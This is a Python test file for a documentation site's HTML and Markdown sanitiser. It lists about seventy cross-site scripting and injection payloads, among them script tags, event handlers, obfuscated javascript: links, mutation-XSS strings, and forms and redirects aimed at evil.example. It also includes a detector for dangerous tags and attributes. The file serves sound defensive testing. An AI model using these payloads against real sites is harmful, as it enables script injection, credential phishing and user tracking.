"""No author can put anything on a page that acts, loads or poses as something else."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown import Markdown
from tests.site.conftest import Render

from relaybook.site.sanitise import sanitised

ALLOWED_SCHEMES = ("http:", "https:", "mailto:", "tel:")
FORBIDDEN_TAGS = (
    "script style iframe object embed form button select textarea meta base link svg math template "
    "video audio source picture frame frameset applet noscript"
)


class Inspector(HTMLParser):
    """Lists whatever a browser would act on."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if f" {tag} " in f" {FORBIDDEN_TAGS} ":
            self.faults.append(f"<{tag}>")
        self.faults += [
            f"<{tag} {name}={value}>" for name, value in attrs if _is_bad(name, value or "")
        ]

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"<!--{data}-->")


def _is_bad(name: str, value: str) -> bool:
    if name.startswith(("on", "data-", "form", "xlink")) or name in {"style", "srcset", "target"}:
        return True
    if name in {"id", "name"}:
        return value.startswith("__") and not value.endswith("__")
    plain = "".join(character for character in value if character > " ").replace("\\", "/").lower()
    found = re.match(r"[^/?#]*?:", plain)
    scheme = found.group() if found else ""
    if name == "src":
        return bool(scheme) or plain.startswith("//")
    return name == "href" and bool(scheme) and scheme not in ALLOWED_SCHEMES


def faults(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.faults


ATTACKS = [
    "<script>alert(1)</script>",
    "<script\n>alert(1)\n</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' OnErRoR='alert(1)'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<embed src='x.swf'>",
    "<form action='https://evil.example'><input name=password><button>Log in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<div class='md-overlay rb-card' data-md-component='search'>x</div>",
    '<a id=\'__config\'>{"base":"https://evil.example"}</a>',
    "<div id=__search></div>",
    "<a name='__md_scope'>x</a>",
    "<video src=x onerror=alert(1)></video>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' &#1;javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<img src='https://evil.example/pixel.gif'>",
    "<img src='//evil.example/pixel.gif'>",
    "<img src='/\t/evil.example/pixel.gif'>",
    "<img src='\\\\evil.example\\pixel.gif'>",
    "<img srcset='https://evil.example/pixel.gif 1x' src='a.png'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<input type=image src=https://evil.example/x onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=a()>'>",
    "<!--><script>alert(1)</script>-->",
    "<!-- relaybook: accept[x] secret reason -->",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<textarea></textarea><script>alert(1)</script>",
    "<table background='https://evil.example/x'><tr><td background='javascript:x'>x</table>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '[x](y "\'><script>alert(1)</script>")',
    '![a](b.png "x\\" onerror=\\"alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "# <img src=x onerror=alert(1)>",
    "# x {onclick=alert(1)}",
    "para\n{: onclick=alert(1) style=color:red }",
    '<div markdown="1" onclick="alert(1)">\n\n[x](javascript:alert(1))\n\n</div>',
    "```html\n<script>alert(1)</script>\n```",
    '``` "><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "- <script>\n  alert(1)\n  </script>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "> <svg onload=alert(1)>",
    "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    'https://evil.example/"onmouseover=alert(1)',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#2;wzxhzdk:0&#3; <b onclick=alert(1)>x</b>",
    "&#2;amp&#3;#106;",
    '!!! note "<script>alert(1)</script>"\n    x',
    '=== "<img src=x onerror=alert(1)>"\n    x',
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_leaves_nothing_that_acts(render: Render, attack: str) -> None:
    assert faults(render(attack)) == []
    assert faults(render(attack, extensions=("attr_list", "md_in_html", "admonition"))) == []


def test_the_inspector_sees_what_it_must() -> None:
    raw = "".join(attack for attack in ATTACKS[:40])

    assert len(faults(raw)) > 30


WORDS = st.sampled_from(
    [
        *["<", ">", '"', "'", "/", "=", " ", "\n", "\t", "&", "`", "*", "_", "[", "]", "(", ")"],
        *["{", "}", ":", "!", "#", "|", "-", "&#2;", "&#3;", "\x00", "\x02", "\x03", "<!--", "-->"],
        *["script", "svg", "math", "style", "a", "img", "div", "p", "table", "select", "</", "/>"],
        *["href=", "src=", "onclick=", "onerror=", "id=", "class=", "style=", "data-x=", "xmlns="],
        *["javascript:", "data:text/html,", "https://x.example", "//x.example", "__config", "&lt;"],
        *["wzxhzdk:0", "klzzwxh:0000", "amp", "relaybook-block:0", "1. ", "```", "[^1]", "x"],
    ]
)
MIXTURES = st.lists(WORDS, max_size=30).map("".join)


@given(MIXTURES)
@example("<noscript><style></noscript><img src=x onerror=1>")
@settings(max_examples=400, deadline=None)
def test_no_mixture_of_html_passes_the_allow_list(mixture: str) -> None:
    assert faults(sanitised(mixture)) == []


@given(MIXTURES)
@settings(max_examples=300, deadline=None)
def test_no_mixture_of_markdown_passes_the_extension(mixture: str) -> None:
    page = Markdown(extensions=["toc", "relaybook.site.markdown_extension"])

    html = page.convert(mixture)

    assert faults(html) == []
    assert [fault for token in page.toc_tokens for fault in faults(token["name"])] == []


@given(MIXTURES)
@settings(max_examples=200, deadline=None)
def test_sanitising_twice_changes_nothing(mixture: str) -> None:
    once = sanitised(mixture)

    assert sanitised(once) == once


def test_what_a_record_may_show_survives() -> None:
    html = (
        "<p>Press <kbd>F5</kbd>, H<sub>2</sub>O<br>"
        '<a href="../x/#steps" rel="noopener noreferrer">x</a> <img src="a.png" alt="b"></p>'
        '<details open=""><summary>more</summary></details>'
        '<table><tbody><tr><td align="right" colspan="2">1</td></tr></tbody></table>'
    )

    assert sanitised(html) == html


def test_an_anchor_that_could_pose_as_a_part_of_the_theme_is_renamed(render: Render) -> None:
    html = render("# `__config`\n\n[here](#__config) [there](x.md#__search) [init](#__init__)")

    assert 'id="user-content-__config"' in html
    assert 'href="#user-content-__config"' in html
    assert 'href="x.md#user-content-__search"' in html
    assert 'href="#__init__"' in html


def test_an_anchor_of_the_author_is_kept(render: Render) -> None:
    assert '<a id="old-name"' in render('<a id="old-name"></a>\n\ntext')


def test_an_unclosed_tag_ends_where_the_page_does(render: Render) -> None:
    assert render("<div>\n\n<b>\n\nx").count("</div>") == 1
